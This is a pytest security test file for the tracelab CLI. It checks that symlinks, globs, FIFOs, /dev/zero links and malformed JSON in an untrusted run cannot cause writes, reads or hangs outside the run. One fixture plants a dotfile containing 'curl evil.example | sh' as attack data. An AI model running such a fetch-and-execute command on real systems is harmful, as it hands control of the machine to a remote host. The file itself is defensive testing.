"""A run's files from a stranger (issue 24 §2, §4, §5; docs/store.md, "Files from strangers"): no link,
folder or glob in a run makes tracelab read or write outside it (the surroundings, a fake home with a
.bashrc among them, are hashed before and after), no FIFO or device hangs a command (each such case runs
in its own process under a timeout, so a hang fails instead of blocking), and a malformed meta.json,
manifest or raw.run is one line naming the file and the key, exit 1."""
from __future__ import annotations

import hashlib
import json
import os
import resource
import shutil
import stat
import subprocess
import sys
import textwrap
from collections.abc import Callable
from pathlib import Path

import duckdb
import pytest
from store_helpers import live_and_sealed_walk_runs

from tracelab.cli import main
from tracelab.engine.safe_files import FileRefused
from tracelab.store.writer import TraceWriter

ROOT = Path(__file__).resolve().parent.parent
CLI = [sys.executable, "-m", "tracelab"]
HANG = 90  # seconds: far above what any of these commands takes, even on a loaded machine


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    return live_and_sealed_walk_runs(tmp_path_factory.mktemp("made"))


def copy_run(made: dict[str, Path], tmp_path: Path, kind: str = "live") -> Path:
    """A copy of the walk run in tmp_path/runs/walk, beside a fake home tmp_path/home."""
    return Path(shutil.copytree(made[kind], tmp_path / "runs" / "walk"))


@pytest.fixture
def home(tmp_path: Path) -> Path:
    h = tmp_path / "home"
    (h / "notes").mkdir(parents=True)
    (h / ".bashrc").write_text("alias ll='ls -l'\n")
    (h / ".profile").write_text("export EDITOR=vi\n")
    (h / "notes" / "todo.txt").write_text("water the plants\n")
    return h


def snapshot(root: Path, skip: Path | None = None) -> dict[str, str]:
    """Every entry under root (links not followed, FIFOs not opened) with its content's hash, its link
    target or its kind; the subtree `skip` (the run itself) left out."""
    out: dict[str, str] = {}
    for folder, dirs, files in os.walk(root):
        here = Path(folder)
        if skip is not None and (here == skip or skip in here.parents):
            dirs.clear()
            continue
        for name in dirs + files:
            p = here / name
            mode = os.lstat(p).st_mode
            if stat.S_ISLNK(mode):
                out[str(p)] = "link " + os.readlink(p)
            elif stat.S_ISREG(mode):
                out[str(p)] = hashlib.sha256(p.read_bytes()).hexdigest()
            else:
                out[str(p)] = "dir" if stat.S_ISDIR(mode) else f"mode {stat.S_IFMT(mode)}"
    return out


def one_line_error(err: str, *fragments: str) -> str:
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("tracelab: error: ") and "Traceback" not in err, err
    for f in fragments:
        assert f in lines[0], lines[0]
    return lines[0]


def refused_in_process(capsys: pytest.CaptureFixture, argv: list[str], *fragments: str,
                       unchanged: tuple[Path, Path] | None = None) -> str:
    """`tracelab ARGV` fails with one line holding `fragments`; with unchanged=(root, run), first: nothing
    under root outside the run changed."""
    before = None if unchanged is None else snapshot(unchanged[0], skip=unchanged[1])
    code = main(argv)
    out = capsys.readouterr()
    if unchanged is not None:
        assert snapshot(unchanged[0], skip=unchanged[1]) == before
    assert code == 1, out
    return one_line_error(out.err, *fragments)


def bounded_memory() -> None:
    """In the child: at most 4 GB of data, so that a read without a cap (/dev/zero) fails instead of
    filling the machine."""
    resource.setrlimit(resource.RLIMIT_DATA, (4 << 30, 4 << 30))


def run_bounded(argv: list[str], home: Path, cwd: Path) -> subprocess.CompletedProcess:
    """A process with the fake home, bounded memory and a timeout (a hang raises TimeoutExpired)."""
    return subprocess.run(argv, capture_output=True, text=True, timeout=HANG, cwd=cwd, preexec_fn=bounded_memory,
                          env={**os.environ, "HOME": str(home), "COLUMNS": "200"})


def tracelab(argv: list[str], home: Path, cwd: Path) -> subprocess.CompletedProcess:
    return run_bounded([*CLI, *argv], home, cwd)


def edit_json(path: Path, change: Callable[[dict], object]) -> None:
    doc = json.loads(path.read_text())
    change(doc)
    path.write_text(json.dumps(doc))


def damage_part(run: Path, entry: str) -> None:
    (run / "parts" / entry).write_bytes(b"PAR1 not a parquet file at all PAR1")


# ---- §2: writes and reads outside the run --------------------------------------------------------------

def test_repair_does_not_move_a_part_named_like_a_dotfile_into_a_linked_quarantine(
        made: dict[str, Path], tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    """The issue's case: quarantine/ a link whose metrics/ is a home folder, and a manifest entry
    `.bashrc`: main overwrote that home's .bashrc with the 'damaged part'."""
    run = copy_run(made, tmp_path)
    homes = tmp_path / "homes"
    (homes / "metrics").mkdir(parents=True)
    (homes / "metrics" / ".bashrc").write_text("alias ll='ls -l'\n")
    (run / "quarantine").symlink_to(homes)
    (run / "parts" / "metrics" / ".bashrc").write_text("curl evil.example | sh\n")
    edit_json(run / "parts" / "manifest.json", lambda d: d["tables"]["metrics"].append("metrics/.bashrc"))
    refused_in_process(capsys, ["check", str(run), "--repair"], "manifest.json: key 'tables.metrics[2]'",
                       "expected a plain file name in the run's parts/", unchanged=(tmp_path, run))
    assert (homes / "metrics" / ".bashrc").read_text() == "alias ll='ls -l'\n"


@pytest.mark.parametrize("linked", ["quarantine", "quarantine/metrics"])
def test_repair_refuses_a_linked_quarantine_before_moving_anything(
        made: dict[str, Path], tmp_path: Path, home: Path, linked: str, capsys: pytest.CaptureFixture) -> None:
    run = copy_run(made, tmp_path)
    damage_part(run, "metrics/00000001.parquet")
    (home / "metrics").mkdir()
    (run / linked).parent.mkdir(parents=True, exist_ok=True)
    (run / linked).symlink_to(home if linked == "quarantine" else home / "metrics")
    manifest = (run / "parts" / "manifest.json").read_bytes()
    refused_in_process(capsys, ["check", str(run), "--repair"], "is a symbolic link",
                       "a link inside a run could lead outside the run", unchanged=(tmp_path, run))
    assert (run / "parts" / "manifest.json").read_bytes() == manifest  # the run as it was, too
    assert (run / "parts" / "metrics" / "00000001.parquet").exists()


@pytest.mark.parametrize("argv", [["seal"], ["check", "--repair"]])
def test_a_linked_writer_lock_creates_no_file(made: dict[str, Path], tmp_path: Path, home: Path,
                                              argv: list[str], capsys: pytest.CaptureFixture) -> None:
    run = copy_run(made, tmp_path)
    (run / "writer.lock").unlink(missing_ok=True)
    (run / "writer.lock").symlink_to(home / "created-by-tracelab")
    refused_in_process(capsys, [argv[0], str(run), *argv[1:]], "writer.lock: is a symbolic link",
                       unchanged=(tmp_path, run))
    assert not (home / "created-by-tracelab").exists()


def test_a_writer_into_a_folder_with_links_writes_nothing_outside(tmp_path: Path, home: Path) -> None:
    """A stranger's folder given as a new run's directory: a linked writer.lock or parts/metrics."""
    for name, target in (("writer.lock", home / "lock-made-here"), ("parts/metrics", home / "notes")):
        run = tmp_path / "runs" / name.replace("/", "-")
        (run / name).parent.mkdir(parents=True)
        (run / name).symlink_to(target)
        before = snapshot(tmp_path, skip=run)
        refusal: FileRefused | None = None
        try:
            TraceWriter(run, {"command": "pytest"}).close()
        except FileRefused as e:
            refusal = e
        assert snapshot(tmp_path, skip=run) == before
        assert refusal is not None and "is a symbolic link" in str(refusal)
    assert not (home / "lock-made-here").exists() and os.listdir(home / "notes") == ["todo.txt"]


def test_seal_deletes_nothing_through_a_linked_parts_folder(made: dict[str, Path], tmp_path: Path,
                                                            capsys: pytest.CaptureFixture) -> None:
    run = copy_run(made, tmp_path)
    elsewhere = tmp_path / "elsewhere"
    shutil.move(run / "parts", elsewhere)
    (elsewhere / "rules" / ".notes.tmp-1").write_text("someone's file, named like a temp file\n")
    (elsewhere / ".draft.tmp-2").write_text("another\n")
    (run / "parts").symlink_to(elsewhere)
    refused_in_process(capsys, ["seal", str(run)], "parts: is a symbolic link", unchanged=(tmp_path, run))
    assert not (run / "run.duckdb").exists()


def test_a_temp_name_planted_as_a_link_is_not_written_through(made: dict[str, Path], tmp_path: Path,
                                                              home: Path, capsys: pytest.CaptureFixture) -> None:
    """`check --repair` rewrites the manifest through a temp name with this process's pid: a link planted
    there is removed, never written through (main wrote the manifest into the link's target)."""
    run = copy_run(made, tmp_path)
    damage_part(run, "metrics/00000001.parquet")
    (run / "parts" / f".manifest.json.tmp-{os.getpid()}").symlink_to(home / ".profile")
    before = snapshot(tmp_path, skip=run)
    assert main(["check", str(run), "--repair"]) == 0, capsys.readouterr()
    assert snapshot(tmp_path, skip=run) == before
    assert not (run / "parts" / "manifest.json").is_symlink()
    manifest = json.loads((run / "parts" / "manifest.json").read_text())
    assert manifest["tables"]["metrics"] == ["metrics/00000000.parquet"]


@pytest.mark.parametrize("argv", [["show", "--json"], ["sql", "SELECT command FROM run"]])
def test_a_linked_meta_json_is_not_read(made: dict[str, Path], tmp_path: Path, home: Path, argv: list[str],
                                        capsys: pytest.CaptureFixture) -> None:
    run = copy_run(made, tmp_path)
    secret = home / "secret.json"
    edit_json(run / "meta.json", lambda d: d.update(command="THE SECRET IN THE HOME FOLDER"))
    shutil.move(run / "meta.json", secret)
    (run / "meta.json").symlink_to(secret)
    code = main([argv[0], str(run), *argv[1:]])
    out = capsys.readouterr()
    assert "SECRET" not in out.out + out.err and code == 1
    one_line_error(out.err, "meta.json: is a symbolic link")


@pytest.mark.parametrize("entry", ["changes", "changes/", "changes/*.parquet", "changes/0000000?.parquet",
                                   "changes/[0-9]*.parquet", "changes/{a,b}.parquet", "changes/x/../00000000.parquet",
                                   "changes/.hidden.parquet", "changes/00000000.json", "rules/00000000.parquet"])
def test_manifest_entries_are_plain_file_names_of_their_table(made: dict[str, Path], tmp_path: Path, entry: str,
                                                              capsys: pytest.CaptureFixture) -> None:
    """A folder or a glob read files the manifest does not list (DuckDB expands globs in a file list)."""
    run = copy_run(made, tmp_path)
    shutil.copy(run / "parts" / "changes" / "00000001.parquet", run / "parts" / "changes" / "00000007.parquet")
    edit_json(run / "parts" / "manifest.json", lambda d: d["tables"]["changes"].append(entry))
    refused_in_process(capsys, ["sql", str(run), "SELECT count(*) FROM changes"],
                       "manifest.json: key 'tables.changes[2]'", "expected a plain file name in the run's parts/")


def test_a_part_listed_twice_is_refused(made: dict[str, Path], tmp_path: Path,
                                       capsys: pytest.CaptureFixture) -> None:
    """main counted a part once per listing (5,000 listings took 3.3 GB)."""
    run = copy_run(made, tmp_path)
    edit_json(run / "parts" / "manifest.json",
              lambda d: d["tables"]["changes"].extend(["changes/00000001.parquet"] * 50))
    refused_in_process(capsys, ["sql", str(run), "SELECT count(*) FROM changes"],
                       "key 'tables.changes[2]': 'changes/00000001.parquet' is listed twice")


# ---- §4: FIFOs and devices hang nothing -------------------------------------------------------------------

def fifo_run(made: dict[str, Path], tmp_path: Path, where: str) -> tuple[Path, str]:
    """A copy of the live walk run with a FIFO as `where`; returns it and the name the error must give."""
    run = copy_run(made, tmp_path)
    if where == "meta.json":
        target = run / "meta.json"
    elif where == "writer.lock":  # read only while the run claims to be running (a crashed run)
        edit_json(run / "meta.json", lambda d: d.update(status="running"))
        target = run / "writer.lock"
    elif where == "part":
        target = run / "parts" / "changes" / "00000001.parquet"
    else:
        target = run / "run.duckdb"
    target.unlink(missing_ok=True)
    os.mkfifo(target)
    return run, f"{target.name}: is a named pipe (FIFO)"


TUI_PROBE = textwrap.dedent("""
    import asyncio, os, sys
    os.environ["TEXTUAL_ANIMATIONS"] = "none"
    from tracelab.viewers.tui.app import TracelabApp

    async def go():
        app = TracelabApp([sys.argv[1]])
        async with app.run_test() as pilot:
            for _ in range(1200):
                await pilot.pause(0.05)
                notes = [n.message for n in app._notifications]
                if notes and getattr(app.screen, "runs", None):
                    print(notes[0].replace("\\n", " "))
                    print("status:", app.screen.runs[0].status)
                    return
            print("the TUI showed no refusal")
    asyncio.run(go())
""")

COMMANDS = {"sql": ["sql", "{run}", "SELECT count(*) FROM changes"], "show": ["show", "{run}"],
            "why": ["why", "{run}", "alarm(r1)", "-e", "10"], "trace": ["trace", "{run}", "-e", "10"],
            "replay": ["replay", "{run}", "-e", "10", "--save", "x.rrd"], "runs": ["runs", "{dir}"]}


@pytest.mark.parametrize("where", ["meta.json", "writer.lock", "part", "run.duckdb"])
@pytest.mark.parametrize("command", [*COMMANDS, "tui"])
def test_a_fifo_in_a_run_hangs_no_command(made: dict[str, Path], tmp_path: Path, home: Path, where: str,
                                          command: str) -> None:
    run, named = fifo_run(made, tmp_path, where)
    before = snapshot(tmp_path, skip=run)
    if command == "tui":
        p = run_bounded([sys.executable, "-c", TUI_PROBE, str(run)], home, tmp_path)
        assert p.returncode == 0 and named in p.stdout and "status: unreadable" in p.stdout, p
    else:
        argv = [a.format(run=run, dir=run.parent) for a in COMMANDS[command]]
        p = tracelab(argv, home, tmp_path)
        if command == "runs":  # one broken run does not hide the others: it is listed as unreadable
            notes = p.stderr.strip().splitlines()
            assert p.returncode == 0 and "unreadable" in p.stdout, p
            assert len(notes) == 1 and notes[0].startswith(f"note: {run}: ") and named in notes[0], p.stderr
        else:
            assert p.returncode == 1 and p.stdout == "", p
            one_line_error(p.stderr, named)
    assert snapshot(tmp_path, skip=run) == before


def test_an_unlisted_fifo_in_parts_cannot_be_queried(made: dict[str, Path], tmp_path: Path, home: Path) -> None:
    """A query may read the run's parts/ by name; a FIFO there would hang it: the run is refused."""
    run = copy_run(made, tmp_path)
    os.mkfifo(run / "parts" / "rules" / "trap.parquet")
    p = tracelab(["sql", str(run), f"SELECT * FROM read_parquet('{run}/parts/rules/trap.parquet')"], home, tmp_path)
    assert p.returncode == 1
    one_line_error(p.stderr, "trap.parquet: is a named pipe (FIFO)")


@pytest.mark.parametrize("which", ["meta.json", "parts/manifest.json"])
def test_json_files_are_read_with_a_size_cap(made: dict[str, Path], tmp_path: Path, home: Path,
                                             which: str) -> None:
    """meta.json linked to /dev/zero grew to 23 GB on main; a big regular file is refused by its size."""
    run = copy_run(made, tmp_path)
    edit_json(run / which, lambda d: d.update(padding="x" * (9 << 20)))
    p = tracelab(["show", str(run)], home, tmp_path)
    assert p.returncode == 1
    one_line_error(p.stderr, f"{which.split('/')[-1]}: larger than 8 MiB")
    (run / which).unlink()
    (run / which).symlink_to("/dev/zero")
    p = tracelab(["show", str(run)], home, tmp_path)
    assert p.returncode == 1
    one_line_error(p.stderr, f"{which.split('/')[-1]}: is a symbolic link")


def test_replay_checks_an_episode_range_against_the_run(tmp_path: Path, home: Path) -> None:
    """main built the list 0..99999999999 before looking at the run."""
    p = tracelab(["replay", str(ROOT / "sample_runs" / "base"), "--episodes", "0-99999999999", "--save",
                  str(tmp_path / "x.rrd")], home, tmp_path)
    assert p.returncode == 1
    one_line_error(p.stderr, "no episode 3-99999999999 in this run (episodes: 0, 1, 2)")
    assert not (tmp_path / "x.rrd").exists()


# ---- §5: malformed meta.json, manifest and raw.run: one located line ------------------------------------

# Wrong values for every field of meta.json (41 in all; the issue counted 38 variants).
WRONG_META: dict[str, list[object]] = {
    "format": [1, "tracelab-run/99"],
    "run_id": [5, ["walk"]],
    "command": [123, {"argv": []}],
    "config": [[], "worlds=3", 5],
    "scenario": [5, ["walk"]],
    "rule_files": [{}, ["a.rules"], [{"path": 1, "sha256": "ab"}], [{"path": "a.rules"}]],
    "seed": [1e30, "7", True, 2 ** 70, 7.5],
    "versions": [[], {"duckdb": 1}],
    "started_at": [5, "yesterday", None],
    "ended_at": [5, "not a time"],
    "status": [123, "bogus", None],
    "pid": ["12", 1.5, 2 ** 64],
    "host": [5, ["a", "b"]],
    "argv": ["tracelab play", [1]],
    "sealed_at": [5, "0001-01-01T00:00:00+14:00"],
    "board": [5, ["gridworld"]],
}
META_VARIANTS = [(k, v) for k, values in WRONG_META.items() for v in values]


@pytest.fixture(scope="module")
def meta_run(made: dict[str, Path], tmp_path_factory: pytest.TempPathFactory) -> Path:
    return Path(shutil.copytree(made["live"], tmp_path_factory.mktemp("meta") / "walk"))


@pytest.mark.parametrize(("key", "value"), META_VARIANTS, ids=[f"{k}={json.dumps(v)[:20]}" for k, v in META_VARIANTS])
def test_every_meta_field_of_the_wrong_type_is_one_located_line(meta_run: Path, key: str, value: object,
                                                                capsys: pytest.CaptureFixture) -> None:
    """One run, its meta.json rewritten per case (and put back): fast."""
    path = meta_run / "meta.json"
    good = path.read_text()
    assert set(json.loads(good)) == set(WRONG_META)  # every field the writer writes has its cases
    try:
        edit_json(path, lambda d: d.update({key: value}))
        # the key, or a part of it: key 'rule_files[0].path'
        refused_in_process(capsys, ["show", str(meta_run)], f"{path}: key '{key}", "': expected ")
    finally:
        path.write_text(good)


@pytest.mark.parametrize(("which", "change", "fragment"), [
    ("meta.json", [], "meta.json: expected an object, got an empty list"),
    ("parts/manifest.json", [], "manifest.json: expected an object, got an empty list"),
    ("parts/manifest.json", {"format": 5}, "manifest.json: key 'format'"),
    ("parts/manifest.json", {"flushes": "2"}, "manifest.json: key 'flushes'"),
    ("parts/manifest.json", {"flushes": -1}, "manifest.json: key 'flushes'"),
    ("parts/manifest.json", {"tables": []}, "manifest.json: key 'tables'"),
])
def test_malformed_documents_are_one_located_line(made: dict[str, Path], tmp_path: Path, which: str,
                                                  change: object, fragment: str,
                                                  capsys: pytest.CaptureFixture) -> None:
    run = copy_run(made, tmp_path)
    if isinstance(change, dict):
        edit_json(run / which, lambda d: d.update(change))
    else:
        (run / which).write_text(json.dumps(change))
    refused_in_process(capsys, ["show", str(run)], fragment)


@pytest.mark.parametrize("lone", [False, True])
def test_a_sealed_file_with_raw_run_emptied_is_one_line(made: dict[str, Path], tmp_path: Path, lone: bool,
                                                        capsys: pytest.CaptureFixture) -> None:
    run = copy_run(made, tmp_path, "sealed")
    con = duckdb.connect(str(run / "run.duckdb"))
    con.execute("DELETE FROM raw.run")
    con.close()
    target = run / "run.duckdb" if lone else run
    refused_in_process(capsys, ["show", str(target)], "run.duckdb: raw.run holds 0 rows")
